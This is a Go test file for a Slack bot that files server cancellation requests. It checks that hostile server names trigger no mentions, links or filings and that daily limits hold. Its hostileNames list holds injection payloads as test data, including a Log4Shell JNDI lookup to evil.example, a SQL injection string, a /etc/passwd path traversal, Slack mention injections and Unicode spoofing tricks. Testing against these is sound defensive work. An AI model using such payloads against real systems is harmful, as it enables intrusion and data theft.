//go:build unix

package main

import (
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"cancel-server/internal/fakeslack"
)

// acts presses a button of a view.
func (w *world) acts(user string, m modal, block, action string) {
	w.t.Helper()
	ack, err := w.slack.Act(w.t.Context(), fakeslack.Action{User: user, View: m.ID, BlockID: block, ActionID: action})
	require.NoError(w.t, err)
	require.Empty(w.t, ack.Error)
}

// several opens an empty list.
func (w *world) several(user string) modal {
	w.t.Helper()
	before := w.hasOpen(user)
	require.Empty(w.t, w.command(user, "").Error)
	w.eventually("the form opens", func() bool { return w.hasOpen(user) > before })
	w.acts(user, w.top(user), "several", "several")
	w.eventually("the list opens", func() bool { return w.top(user).Title.Text == "Several servers" })
	return w.top(user)
}

// listed are the values of a list that is filled in.
func listed(first, second, content string) fakeslack.Values {
	return fakeslack.Values{
		"names":   {"names": {"type": "plain_text_input", "value": first}},
		"names-2": {"names": {"type": "plain_text_input", "value": second}},
		"reason":  {"reason": {"type": "static_select", "selected_option": option("No longer needed")}},
		"content": {"content": {"type": "plain_text_input", "value": content}},
	}
}

// hostileNames try to ping, to link, to turn text around, to hide, to end a JSON text and to be a number.
func (w *world) hostileNames() []string {
	return []string{
		"<!channel>", "<!here|web-9999>", "<!everyone>", "<@" + w.cast.Approver + ">", "<!subteam^" + w.cast.ApproveGroup + "|@leads>",
		"<https://evil.example/|web-9999>", "https://evil.example/x?y=<!channel>", "<mailto:a@evil.example|a>", "@channel", "@here",
		"*bold*", "_it_", "~gone~", "`code`", "```", ">quote", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", ":skull:",
		"\u202egro.lautca\u202c", "\u200fweb\u200e-\u200b9999", "\u2066web-9999\u2069", "w\u200be\u2060b-99\ufeff99", "ｗｅｂ－９９９９", "we\u0301b\u20dd",
		strings.Repeat("9", 400), "18446744073709551616", "-1", "0x7f", "1e309", "٣٣٣٣٣٣", "2²", "NaN",
		`"}],"blocks":[{"type":"section"`, `\u003c!channel\u003e`, "\x00\x07\x1b[2J", "'; drop table requests; --", "${jndi:ldap://evil.example}", "../../etc/passwd",
		"\U0001f9e8\u200d\U0001f525", strings.Repeat("\u0300", 40) + "z", strings.Repeat("a", 300), "web-9999.example.com.evil.example", "=HYPERLINK(1)",
	}
}

// filledUp repeats texts until there are 3,000 characters, as Slack counts them.
func filledUp(texts []string, between string) string {
	var text []uint16
	for n := 0; len(text) < 3000; n++ {
		text = append(text, utf16.Encode([]rune(texts[n%len(texts)]+between))...)
	}
	return string(utf16.Decode(text[:3000]))
}

// pings matches what Slack reads as a mention of many, a person or a group, or as a link.
var pings = regexp.MustCompile(`<[!@][^>]*>|<(https?|mailto):[^>]*>`)

// shoutsIn lists what would notify people or lead them elsewhere in what the bot sent to Slack: in top-level
// text, in mrkdwn, and in elements of rich text.
func shoutsIn(sent any) (found []string) {
	eachObject(sent, func(object map[string]any) {
		text, _ := object["text"].(string)
		_, isMessage := object["blocks"]
		switch kind, _ := object["type"].(string); {
		case kind == "mrkdwn", kind == "" && isMessage:
			found = append(found, pings.FindAllString(text, -1)...)
		case kind == "link":
			found = append(found, fmt.Sprint(object["url"]))
		case slices.Contains([]string{"user", "usergroup", "broadcast"}, kind):
			found = append(found, fmt.Sprint(kind, object))
		}
	})
	return found
}

// shouts is that of all that the bot has sent to Slack, and of how it acknowledged.
func (w *world) shouts() (found []string) {
	w.t.Helper()
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, e := range w.slk {
		raw := e.Request
		if e.From == "slack" {
			raw = e.Response
		}
		var sent any
		if len(raw) > 0 && json.Unmarshal(raw, &sent) == nil {
			found = append(found, shoutsIn(sent)...)
		}
	}
	return found
}

func TestHostileNamesPingNobodyAndAskForNothing(t *testing.T) {
	overHTTP(t, lists(), func(t *testing.T, w *world) {
		user, names := w.cast.Hostile, w.hostileNames()
		backwards := slices.Clone(names)
		slices.Reverse(backwards)
		var many []string
		for n := range 400 {
			many = append(many, names[n%20]+fmt.Sprint(n))
		}
		for name, list := range map[string][2]string{
			"a line each":           {filledUp(names, "\n"), filledUp(backwards, "\r\n")},
			"after commas":          {filledUp(names, ","), filledUp(backwards, "; ")},
			"more than a form has":  {filledUp(many, " "), filledUp(many[200:], " ")},
			"one long name":         {strings.Repeat("<", 3000), filledUp([]string{"<!channel>"}, "")},
			"queries":               {filledUp([]string{"tag:<!channel>", "dc:<@" + w.cast.Approver + ">", "pod:\u202e", `tag:"<https://evil.example|x>"`}, "\n"), "closing:<!here>"},
			"tags":                  {filledUp([]string{`tag:"<!channel> x"`, "tag:\u202eb", "tag:*b*", "tag:`<@" + w.cast.Approver + ">`"}, "\n"), ""},
			"a table":               {"id;hostname;<!channel>\n" + filledUp(names, ";")[:2000], "hostname\tip\n" + filledUp(backwards, "\t")[:2000]},
			"what is not in a name": {strings.Repeat("\U0001f9e8", 1500), strings.Repeat("\u202e", 3000)},
		} {
			form := w.several(user)
			ack := w.submit(user, form, listed(list[0], list[1], filledUp(names, " ")))
			require.Empty(t, ack.Error, "%s: it is acknowledged in a form that Slack takes", name)
			w.eventually(name+": it is refused, or the review opens", func() bool {
				shown := w.top(user)
				return strings.Contains(string(ack.Body), `"errors"`) || strings.HasPrefix(shown.Title.Text, "Review: 0 of")
			})
			w.close(user)
		}
		require.Empty(t, w.command(user, filledUp(names, " ")).Error)
		w.onMessage(user, w.alert(w.cast.Channel, filledUp(names, " "), ""))
		w.eventually("the last form is open", func() bool { return w.hasOpen(user) > 0 })
		w.stop()
		assert.Empty(t, w.shouts())
		assert.Empty(t, w.recorded(), "nothing is asked for")
		assert.Empty(t, w.posts())
		assert.Empty(t, w.notified(w.cast.Approver))
		assert.Empty(t, w.broken(), "Slack's limits")
	})
}

func TestHostileServerNamesInAListAreInert(t *testing.T) {
	overSocket(t, lists(), func(t *testing.T, w *world) {
		ids, _ := w.some(3)
		list := ""
		for n, name := range []string{"<!channel>", "<https://evil.example|x>\u202e", "`*" + strings.Repeat("w", 200)} {
			w.patch(ids[n], map[string]any{"hostname": name, "fullyQualifiedDomainName": name})
			list += fmt.Sprintln(ids[n])
		}
		review := w.pasted(w.cast.Hostile, list, 3)
		require.Empty(t, w.confirms(w.cast.Hostile, review, "3 servers").Error)
		waits := w.approved("3 waiting for approval")
		told := w.awaitMessage(w.cast.Channel, "Cancellation requested for 3 servers.")
		assert.Equal(t, waits.TS, told.TS)
		for _, m := range w.messages(w.cast.Channel) {
			for _, mentioned := range m.Mentions {
				assert.Contains(t, []string{w.cast.Hostile, w.cast.Approver}, mentioned, "who asked, and who approved")
			}
			assert.NotContains(t, fmt.Sprint(shoutsIn(m.Blocks)), "evil")
			assert.False(t, m.Unfurls)
		}
		w.filedOnce(ids...)
		assert.Empty(t, w.broken())
	})
}

func TestListOfFiveHundredNamesWhatFits(t *testing.T) {
	s := lists("MAX_SERVERS_PER_DAY=38")
	s.softlayer.Servers = 600
	overHTTP(t, s, func(t *testing.T, w *world) {
		inputs := [2]string{}
		for n, h := range w.atStart()[:500] {
			inputs[n/250] += h.Hostname + "\n"
		}
		distinct := map[string]bool{}
		for _, h := range w.atStart()[:500] {
			distinct[h.Hostname] = true
		}
		form := w.several(w.cast.Requester)
		told := w.fieldErrors(w.submit(w.cast.Requester, form, listed(inputs[0], inputs[1], "The hall is emptied.")))
		assert.Contains(t, told["names"], fmt.Sprintf("%d names are too many: one form takes 50, and you can ask for 38 more today.", len(distinct)))
		assert.Contains(t, w.top(w.cast.Requester).Raw, "The hall is emptied.", "what was typed is kept")
		assert.Contains(t, w.top(w.cast.Requester).Raw, w.atStart()[0].Hostname)

		w.eventually("tags are known, and the queries shortened", func() bool {
			form := w.several(w.cast.Requester)
			require.Empty(t, w.submit(w.cast.Requester, form, listed("tag:staging tag:test\ntag:lab", "", "The hall is emptied.")).Error)
			review := w.reviewed(w.cast.Requester, 0)
			shown := review.text(w)
			return strings.Contains(shown, "Showing 38 of ")
		})
		review := w.top(w.cast.Requester)
		found := regexp.MustCompile(`Showing 38 of (\d+):`).FindStringSubmatch(review.text(w))
		require.NotNil(t, found)
		assert.Len(t, found[1], 3, "hundreds: %s", found[1])
		assert.Contains(t, review.text(w), "Nothing is chosen yet.")
		_, _, asks := review.field("count:")
		assert.False(t, asks, "what a query finds is not ticked")
		assert.Empty(t, w.recorded())
		assert.Empty(t, w.posts())
		assert.Empty(t, w.broken())
	})
}

func TestEighthListIsRefused(t *testing.T) {
	overSocket(t, lists("MAX_SERVERS_PER_DAY=38"), func(t *testing.T, w *world) {
		user := w.cast.Requester
		for range 7 {
			_, names := w.some(5)
			require.Empty(t, w.confirms(user, w.pasted(user, names, 5), "5").Error)
			require.Equal(t, "Recorded", w.top(user).Title.Text, w.top(user).Raw)
			w.close(user)
		}
		w.fillsTheNextDayToo(35)
		_, names := w.some(5)
		told := w.fieldErrors(w.submit(user, w.several(user), listed(names, "", "")))
		assert.Contains(t, told["names"], "5 names are too many: one form takes 50, and you can ask for 3 more today.")
		assert.Equal(t, map[string]int{"pending": 35}, w.recorded())
		w.close(user)

		_, names = w.some(3)
		require.Empty(t, w.confirms(user, w.pasted(user, names, 3), "3").Error)
		w.fillsTheNextDayToo(38)
		open := w.hasOpen(user)
		require.Empty(t, w.command(user, "").Error)
		w.whispered(w.cast.Channel, user, "Nothing was filed", "builtin-servers-per-day")
		assert.Equal(t, open, w.hasOpen(user), "no form opens")
		assert.Equal(t, map[string]int{"pending": 38}, w.recorded())
		assert.Empty(t, w.posts())
		assert.Empty(t, w.broken())
	})
}
